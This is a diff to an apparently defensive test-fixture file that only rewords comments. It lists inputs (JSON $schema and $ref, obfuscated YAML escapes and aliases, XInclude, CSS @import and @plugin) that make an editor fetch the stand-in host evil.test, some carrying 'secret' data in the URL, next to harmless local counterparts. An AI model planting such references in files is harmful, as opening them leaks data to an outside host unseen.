@@ -1,4 +1,4 @@
-/** Texts of which an editor fetches an address by itself. */
+/** Texts with an address that an editor fetches automatically. */
 export const remote: readonly string[] = [
   '{ "$schema": "https://evil.test/?data=secret" }',
   '{ "$schema" :\n "//evil.test/x" }',
@@ -38,7 +38,7 @@ export const remote: readonly string[] = [
   '@import x @import\n"https://evil.test/a.css"',
   '#:schema https://evil.test/s.json',
   '#:schema //evil.test/s.json',
-  // parts of schemas and of descriptions of interfaces
+  // Schemas and API descriptions
   '{ "$ref": "https://evil.test/a.json#/definitions/x" }',
   "$ref: 'https://evil.test/a.yaml'",
   'schema: { $ref: https://evil.test/a.yaml }',
@@ -51,19 +51,19 @@ export const remote: readonly string[] = [
   '{ "$schema": "http:evil.test/x" }',
   '{ "$schema": "http://json-schema.org/draft-07/schema?secret" }',
   '{ "$schema": "http://json-schema.org.evil.test/draft-07/schema#" }',
-  // escapes of YAML
+  // YAML escapes
   '$schema: "\\x68ttps:\\x2f\\x2fevil.test"',
   '"\\x24ref": "https://evil.test"',
   '"\\U00000024ref": "https:\\U0000002F\\U0000002Fevil.test"',
   '"$r\\\n  ef": "https://evil.test"',
   '{ "$schema": "\\\\\\\\evil.test\\\\share" }',
-  // indirections of YAML
+  // YAML anchors and aliases
   'a: &a https://evil.test/s.json\n$ref: *a',
   'k: &k $ref\nv: { *k : https://evil.test }',
   '? !!str $ref # a\n: https://evil.test',
   '? "$ref"\n: https://evil.test',
   '$ref: &a\n  https://evil.test',
-  // XML that includes XML
+  // XML inclusions
   '<xi:include href="https://evil.test/a.xml"/>',
   "<include parse='text' href='//evil.test/a'/>",
   '<xs:import namespace="a" schemaLocation="https://evil.test/a.xsd"/>',
@@ -73,7 +73,7 @@ export const remote: readonly string[] = [
   '@plugin "https://evil.test/a.js";',
 ];
 
-/** Texts of which it fetches nothing. */
+/** Similar texts from which an editor fetches nothing. */
 export const harmless: readonly string[] = [
   '{ "$schema": "./schema.json" }',
   '{ "$schema": "file:///work/schema.json" }',
